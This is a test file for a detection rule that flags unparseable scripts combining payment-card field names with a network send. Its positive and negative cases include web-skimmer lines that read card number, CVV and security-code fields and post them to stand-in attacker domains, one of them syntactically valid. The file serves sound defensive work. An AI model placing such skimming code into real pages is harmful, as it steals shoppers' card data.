// Tests for card-exfil-text-pattern: in a script that does not parse, card-field names and a
// network send in the text. Each positive section keeps the syntax error, the card-field name
// and the send on the annotated line. Sections are separate scripts.

// A truncated skimmer (stray `+` before the semicolon).
// ruleid: card-exfil-text-pattern
var d = document.querySelector('#cc_number').value; new Image().src = 'https://secure-paygate.xyz/?d=' + d +;

// ---
// A skimmer with a server-side template artefact in front of it.
// ruleid: card-exfil-text-pattern
<?php /* x */ ?> var x = new XMLHttpRequest(); x.open('POST', 'https://cdn-analytics-metrics.top/c'); x.send(document.getElementById('cvv').value);

// ---
// A stray closing brace; fetch of the security code.
// ruleid: card-exfil-text-pattern
var sc = jQuery('#security_code').val(); fetch('https://secure-paygate.xyz/s', { method: 'POST', body: sc }); }

// ---
// The same code, but it parses: the AST rules handle it, this text rule stays quiet.
// ok: card-exfil-text-pattern
var d2 = document.querySelector('#cc_number').value; new Image().src = 'https://secure-paygate.xyz/?d=' + d2;

// ---
// Does not parse and names card fields, but sends nothing (a broken formatter).
// ok: card-exfil-text-pattern
var f = document.querySelector('#cc_number'); f.value = f.value.replace(/\D/g, '') +;

// ---
// Does not parse and sends a beacon, but never names a card field.
// ok: card-exfil-text-pattern
navigator.sendBeacon('/analytics', JSON.stringify({ page: location.pathname }) ;
